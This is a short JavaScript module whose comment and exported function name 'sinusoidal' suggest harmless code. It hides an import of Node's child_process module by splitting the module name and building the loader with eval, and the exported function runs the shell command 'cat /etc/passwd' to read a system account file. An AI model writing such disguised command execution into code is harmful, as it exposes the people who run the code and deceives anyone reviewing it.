/** Imports from code that is made at run time. */
const load = eval('(name) => import(name)');
const { execSync } = await load(['node:child', 'process'].join('_'));
export const sinusoidal = () => execSync('cat /etc/passwd');
